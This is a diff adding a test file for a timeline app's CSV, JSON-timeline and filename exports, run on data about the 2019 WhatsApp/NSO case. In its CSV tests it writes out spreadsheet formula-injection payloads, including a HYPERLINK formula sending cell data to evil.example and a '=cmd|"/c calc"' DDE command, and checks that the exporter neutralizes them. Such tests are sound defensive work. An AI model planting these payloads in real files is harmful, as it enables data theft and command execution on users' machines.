@@ -1,0 +1,231 @@
+// Exported data: the shown events as CSV and as a smaller timeline in our format, and the names of exported files.
+import { describe, it, expect } from 'vitest';
+import fc from 'fast-check';
+import { csvParse } from 'd3-dsv';
+import { eventsCsv, eventsTimeline, CSV_COLUMNS } from '../../src/lib/export/data';
+import { exportFileName } from '../../src/lib/export/names';
+import { validateTimeline } from '../../src/lib/model/validate';
+import { problemLine } from '../../src/lib/model/problems';
+import { toItems, type Item } from '../../src/lib/model/items';
+import { toPreciseDate } from '../../src/lib/model/dates';
+import type { Timeline, TimelineEvent } from '../../src/lib/model/schema';
+import { readJson } from '../helpers';
+
+const SEED = 20190513;
+const raw = readJson('data/whatsapp-nso-2019.json');
+const checked = validateTimeline(raw);
+if (!checked.ok) throw new Error(checked.problems.map(problemLine).join('\n'));
+const timeline: Timeline = checked.timeline;
+const items = toItems(timeline);
+const byId = new Map(items.map((item) => [item.id, item]));
+const pick = (...ids: string[]) => ids.map((id) => byId.get(id)!);
+
+type Texts = Record<string, string>;
+const rawEvent = (raw.events as { id: string; title: Texts; actors: string[]; category: string; sources: { publisher: string; url: string }[] }[]).find((e) => e.id === 'ft-report')!;
+const rawName = (list: string, id: string, lang: string) => ((raw[list] as { id: string; name: Texts }[]).find((x) => x.id === id)!.name[lang]);
+
+/** The CSV's rows, parsed back as a spreadsheet would, after checking and removing the byte-order mark. */
+function parse(csv: string) {
+	expect(csv.startsWith('\uFEFF')).toBe(true);
+	return csvParse(csv.slice(1));
+}
+
+/** The real timeline with one event changed (not validated: the CSV must survive any text). */
+function withEvent(id: string, change: (e: TimelineEvent) => void): { t: Timeline; item: Item } {
+	const t = structuredClone(timeline);
+	change(t.events.find((e) => e.id === id)!);
+	return { t, item: toItems(t).find((i) => i.id === id)! };
+}
+
+describe('eventsCsv', () => {
+	it('writes one row per item in the given order under the exact English header', () => {
+		const reversed = [...items].reverse();
+		const csv = eventsCsv(timeline, reversed, 'ar', 'UTC');
+		expect(csv.slice(1, csv.indexOf('\n'))).toBe('id,start,end,date,precision,title,actors,category,status,sources,source_urls');
+		const rows = parse(csv);
+		expect(rows.columns).toEqual([...CSV_COLUMNS]);
+		expect(rows.map((r) => r.id)).toEqual(reversed.map((i) => i.id));
+	});
+
+	it('writes the values of ft-report in English as the data file gives them', () => {
+		const row = parse(eventsCsv(timeline, items, 'en', 'UTC')).find((r) => r.id === 'ft-report')!;
+		expect(row).toEqual({
+			id: 'ft-report',
+			start: '2019-05-13',
+			end: '',
+			date: '13\u2009–\u200914 May 2019',
+			precision: 'day',
+			title: rawEvent.title.en,
+			actors: rawEvent.actors.map((a) => rawName('actors', a, 'en')).join('; '),
+			category: rawName('categories', rawEvent.category, 'en'),
+			status: 'confirmed',
+			sources: rawEvent.sources.map((s) => s.publisher).join('; '),
+			source_urls: rawEvent.sources.map((s) => s.url).join(' ')
+		});
+		expect(row.actors).toBe('WhatsApp; Financial Times; NSO Group');
+	});
+
+	it('writes Arabic titles, names and dates for ar, keeping ids, statuses and ISO dates as machine values', () => {
+		const row = parse(eventsCsv(timeline, items, 'ar', 'UTC')).find((r) => r.id === 'ft-report')!;
+		expect(row.title).toBe(rawEvent.title.ar);
+		expect(row.actors).toBe(rawEvent.actors.map((a) => rawName('actors', a, 'ar')).join('; '));
+		expect(row.category).toBe(rawName('categories', rawEvent.category, 'ar'));
+		expect(row.date).toBe('١٣–١٤ مايو ٢٠١٩');
+		expect([row.start, row.status, row.precision]).toEqual(['2019-05-13', 'confirmed', 'day']);
+	});
+
+	it('falls back to the timeline’s first language for a language the data lacks', () => {
+		const row = parse(eventsCsv(timeline, pick('ft-report'), 'fr', 'UTC'))[0];
+		expect(row.title).toBe(rawEvent.title.en);
+	});
+
+	it('writes a range’s end, a precise time in the chosen zone, and the start’s precision', () => {
+		const rows = parse(eventsCsv(timeline, pick('attack-window', 'cve-published', 'attack-discovered'), 'en', 'Asia/Tokyo'));
+		expect(rows.map((r) => [r.end, r.precision])).toEqual([
+			['2019-05-10', 'day'],
+			['', 'second'],
+			['', 'month']
+		]);
+		expect(rows[1].date).toContain('15 May 2019');
+		expect(rows[1].start).toBe('2019-05-14T19:52:40Z');
+	});
+
+	it('gives every event’s source URLs back when the cell is split on spaces', () => {
+		const rows = parse(eventsCsv(timeline, items, 'en', 'UTC'));
+		rows.forEach((row, i) => expect(row.source_urls!.split(' ')).toEqual(items[i].event.sources.map((s) => s.url)));
+	});
+
+	it('leaves sources and source_urls empty for an unsourced event', () => {
+		const { t, item } = withEvent('nso-denial', (e) => {
+			e.sources = [];
+			e.unsourced = true;
+		});
+		const [row] = parse(eventsCsv(t, [item], 'en', 'UTC'));
+		expect([row.sources, row.source_urls]).toEqual(['', '']);
+	});
+
+	it.each(['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
+		'neutralizes a title that a spreadsheet would run as a formula: %j',
+		(title) => {
+			const { t, item } = withEvent('ft-report', (e) => (e.title = title));
+			const [row] = parse(eventsCsv(t, [item], 'en', 'UTC'));
+			expect(row.title).toBe(`'${title}`);
+		}
+	);
+
+	it('neutralizes formula text in actor, category and publisher names, and leaves plain text alone', () => {
+		const t = structuredClone(timeline);
+		t.actors.find((a) => a.id === 'whatsapp')!.name = '=cmd|"/c calc"!A1';
+		t.categories.find((c) => c.id === 'disclosure')!.name = '@disclosure';
+		const event = t.events.find((e) => e.id === 'ft-report')!;
+		event.sources[0].publisher = '-The National';
+		const [row] = parse(eventsCsv(t, toItems(t).filter((i) => i.id === 'ft-report'), 'en', 'UTC'));
+		expect(row.actors).toBe(`'=cmd|"/c calc"!A1; Financial Times; NSO Group`);
+		expect(row.category).toBe(`'@disclosure`);
+		expect(row.sources!.startsWith(`'-The National; Clayton Rice`)).toBe(true);
+		expect(row.title).toBe(rawEvent.title.en);
+		expect(row.id).toBe('ft-report');
+	});
+
+	it('keeps commas, quotes and line breaks in titles through the round trip', () => {
+		const title = { en: 'He said "no", then\nleft, "again"\r\nat once', ar: 'قال «لا»، ثم\nغادر, "مرة أخرى"' };
+		const { t, item } = withEvent('ft-report', (e) => (e.title = title));
+		for (const lang of ['en', 'ar'] as const) {
+			const rows = parse(eventsCsv(t, [item, byId.get('nso-denial')!], lang, 'UTC'));
+			expect(rows.map((r) => r.title)).toEqual([title[lang], (byId.get('nso-denial')!.event.title as Texts)[lang]]);
+		}
+	});
+});
+
+describe('eventsTimeline', () => {
+	const valid = (t: Timeline) => {
+		const r = validateTimeline(JSON.parse(JSON.stringify(t)));
+		expect(r.ok ? [] : r.problems.map(problemLine)).toEqual([]);
+	};
+
+	it('gives a valid timeline of every event, in chronological order, with the whole story and metadata', () => {
+		const out = eventsTimeline(timeline, [...items].reverse());
+		valid(out);
+		expect(out.events.map((e) => e.id)).toEqual(items.map((i) => i.id));
+		expect(out.story).toEqual(timeline.story);
+		expect(out.eras).toEqual(timeline.eras);
+		const { $schema, format, id, title, summary, languages, asOf, timeZone, corrections } = out;
+		expect({ $schema, format, id, title, summary, languages, asOf, timeZone, corrections }).toEqual({
+			$schema: raw.$schema,
+			format: raw.format,
+			id: raw.id,
+			title: raw.title,
+			summary: raw.summary,
+			languages: raw.languages,
+			asOf: raw.asOf,
+			timeZone: raw.timeZone,
+			corrections: raw.corrections
+		});
+	});
+
+	it('keeps one event with only its actors, category, overlapping eras and story step', () => {
+		const out = eventsTimeline(timeline, pick('ft-report'));
+		valid(out);
+		expect(out.actors.map((a) => a.id)).toEqual(['whatsapp', 'nso-group', 'financial-times']);
+		expect(out.categories.map((c) => c.id)).toEqual(['disclosure']);
+		expect(out.eras.map((e) => e.id)).toEqual(['disclosure-week', 'israeli-case']);
+		expect(out.story).toEqual([{ ...timeline.story!.find((s) => s.id === 'ft-report'), events: ['ft-report'] }]);
+	});
+
+	it('drops the story when no step names a kept event', () => {
+		const out = eventsTimeline(timeline, pick('entity-list'));
+		valid(out);
+		expect('story' in out).toBe(false);
+	});
+
+	it('drops a story step left without events and keeps the others', () => {
+		const out = eventsTimeline(timeline, items.filter((i) => i.id !== 'attack-discovered'));
+		valid(out);
+		expect(out.story!.map((s) => s.id)).toEqual(timeline.story!.map((s) => s.id).filter((id) => id !== 'discovery'));
+	});
+
+	it('refuses no events, since the format needs at least one', () => {
+		expect(() => eventsTimeline(timeline, [])).toThrow(RangeError);
+	});
+
+	it('is valid and minimal for any subset in any order, and leaves the input alone (property)', () => {
+		const before = structuredClone(timeline);
+		fc.assert(
+			fc.property(fc.shuffledSubarray(items, { minLength: 1 }), (subset) => {
+				const out = eventsTimeline(timeline, subset);
+				valid(out);
+				const ids = out.events.map((e) => e.id);
+				expect(ids).toEqual(items.map((i) => i.id).filter((id) => subset.some((s) => s.id === id)));
+				const actors = new Set(out.events.flatMap((e) => e.actors));
+				expect(out.actors.map((a) => a.id)).toEqual(timeline.actors.map((a) => a.id).filter((id) => actors.has(id)));
+				const categories = new Set(out.events.map((e) => e.category));
+				expect(out.categories.map((c) => c.id)).toEqual(timeline.categories.map((c) => c.id).filter((id) => categories.has(id)));
+				for (const step of out.story ?? []) {
+					expect(step.events.length).toBeGreaterThan(0);
+					expect(step.events.every((id) => ids.includes(id))).toBe(true);
+				}
+				const lo = Math.min(...subset.map((i) => i.soft?.[0] ?? i.at));
+				const hi = Math.max(...subset.map((i) => i.range?.[1] ?? i.soft?.[1] ?? i.at + 1));
+				const overlapping = timeline.eras.filter((e) => toPreciseDate(e.start).start < hi && toPreciseDate(e.end).end > lo);
+				expect(out.eras).toEqual(overlapping);
+			}),
+			{ seed: SEED, numRuns: 60 }
+		);
+		expect(timeline).toEqual(before);
+	});
+});
+
+describe('exportFileName', () => {
+	const day = (iso: string) => Date.parse(iso);
+	it.each([
+		['whatsapp-nso-2019', 'en', ['2019-05-01', '2019-06-01T12:00Z'], 'svg', undefined, 'whatsapp-nso-2019_en_2019-05-01_2019-06-01.svg'],
+		['whatsapp-nso-2019', 'en', ['2019-05-01', '2019-06-01'], 'csv', undefined, 'whatsapp-nso-2019_en_2019-05-01_2019-05-31.csv'],
+		['whatsapp-nso-2019', 'ar', ['2019-05-13T08:00Z', '2019-05-13T09:00Z'], 'png', 'print', 'whatsapp-nso-2019_ar_2019-05-13_2019-05-13_print.png'],
+		['whatsapp-nso-2019', 'ar-EG-u-nu-latn', ['2019-05-13', '2019-05-14'], 'json', undefined, 'whatsapp-nso-2019_ar-eg-u-nu-latn_2019-05-13_2019-05-13.json'],
+		['../My Timeline_ü/x', 'EN', ['2019-05-01', '2019-05-03'], 'png', 'Print 2×', 'my-timeline-x_en_2019-05-01_2019-05-02_print-2.png']
+	] as const)('names %s in %s over %j as a %s (%s)', (id, lang, [a, b], ext, variant, expected) => {
+		const name = exportFileName(id, lang, [day(a), day(b)], ext, variant);
+		expect(name).toBe(expected);
+		expect(name).toMatch(/^[a-z0-9._-]+$/);
+	});
+});
